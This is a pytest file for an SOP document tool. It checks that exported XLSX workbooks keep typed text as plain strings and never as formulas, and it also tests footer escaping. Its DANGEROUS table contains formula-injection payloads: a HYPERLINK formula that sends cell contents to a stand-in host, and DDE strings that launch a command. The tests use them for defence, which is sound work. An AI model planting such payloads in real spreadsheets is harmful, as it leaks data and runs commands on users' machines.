"""XLSX cells hold people's text as text: never a formula, and exactly the characters they typed."""

from __future__ import annotations

import io
from typing import Any

import openpyxl
import pytest

from sopap.core import sopfile
from sopap.core.importers import import_file
from sopap.core.layout.text import BULLET
from sopap.core.renderers.cells import HEADER_FOOTER_CHARS, header_footer_text, put, writable
from sopap.core.renderers.xlsx import render_xlsx
from tests.conftest import sop_data, sop_yaml

DANGEROUS = {
    "=": '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik di sini")',
    "=cmd": "=cmd|' /C calc'!A0",
    "+": "+62 812 3456 7890 dihubungi",
    "-": "-2+3 berkas",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _with(text: str) -> dict[str, Any]:
    """The five-step SOP with ``text`` (made unique per field) in every field a person types."""
    data = sop_data(
        nama=f"{text} nama",
        pemerintah=f"{text} pemerintah",
        unit=[f"{text} unit"],
        dasar_hukum=[f"{text} dasar"],
        peralatan=[f"{text} alat", "Komputer"],
        disahkan_oleh={"jabatan": f"{text} jabatan", "nama": f"{text} pengesah", "nip": f"{text} nip"},
    )
    first = f"{text} PPTK"
    data["pelaksana"][0] = first
    for step in data["langkah"]:
        if step["pelaksana"] == "PPTK":
            step["pelaksana"] = first
    step = data["langkah"][1]
    step["kegiatan"] = f"{text} kegiatan"
    step["kelengkapan"] = f"{text} kelengkapan"
    step["output"] = f"{text} output"
    step["waktu"] = "1 jam"
    step["keterangan"] = f"{text} keterangan"
    return data


def _cells(data: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", DANGEROUS.values(), ids=DANGEROUS.keys())
def test_no_cell_of_the_sop_workbook_is_a_formula_and_every_text_is_kept(text: str) -> None:
    sop = sopfile.load(sop_yaml(_with(text)))
    cells = _cells(render_xlsx(sop))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells if isinstance(c.value, str)}
    typed = {f"{text} {field}" for field in ("nama", "dasar", "PPTK", "kegiatan", "kelengkapan", "output")}
    typed |= {f"{text} keterangan", f"{text} pemerintah".upper(), f"{BULLET}{text} alat\n{BULLET}Komputer"}
    assert typed <= values


@pytest.mark.parametrize("text", DANGEROUS.values(), ids=DANGEROUS.keys())
def test_the_importer_reads_the_text_back_unchanged(text: str) -> None:
    sop = sopfile.load(sop_yaml(_with(text)))
    (imported,) = import_file(render_xlsx(sop), "sop.xlsx").sops
    data = sopfile.parse_text(imported.yaml).data
    assert data["nama"] == f"{text} nama"
    assert data["langkah"][1]["kegiatan"] == f"{text} kegiatan"
    assert data["langkah"][1]["keterangan"] == f"{text} keterangan"
    # The importer reads a leading `-` in a column header or a Mutu Baku cell as a list bullet.
    if not text.startswith("-"):
        assert f"{text} PPTK" in data["pelaksana"]
        assert data["langkah"][1]["kelengkapan"] == f"{text} kelengkapan"


def test_an_ampersand_in_the_name_prints_as_itself_in_the_footer() -> None:
    sop = sopfile.load(sop_yaml(sop_data(nama="Disposisi & Surat &P")))
    book = openpyxl.load_workbook(io.BytesIO(render_xlsx(sop)))
    footer = book["Prosedur"].oddFooter
    assert footer.left.text == "12.01.32.2019 \u2014 Disposisi && Surat &&P"
    assert footer.right.text == "Halaman &P dari &N"


def test_a_footer_is_cut_to_what_excel_accepts_without_leaving_half_an_escape() -> None:
    assert len(header_footer_text("x" * 400)) == HEADER_FOOTER_CHARS
    cut = header_footer_text("a" * 8 + "&" * 10, 10)
    assert cut == "a" * 8 + "\u2026"
    assert header_footer_text("ab&cd", 10) == "ab&&cd"


def test_text_is_stored_inline_as_a_string_and_other_values_keep_their_type() -> None:
    sheet = openpyxl.Workbook().active
    assert sheet is not None
    assert put(sheet["A1"], "=1+1").data_type == "s"
    assert put(sheet["A2"], 3).data_type == "n"
    assert put(sheet["A3"], None).value is None


def test_characters_a_workbook_cannot_hold_are_dropped_and_word_line_breaks_kept() -> None:
    assert writable("Baris satu\x0bbaris dua\x0cakhir\x01\x1f") == "Baris satu\nbaris dua\nakhir"
    sheet = openpyxl.Workbook().active
    assert sheet is not None
    assert put(sheet["A1"], "=catatan\x07").value == "=catatan"
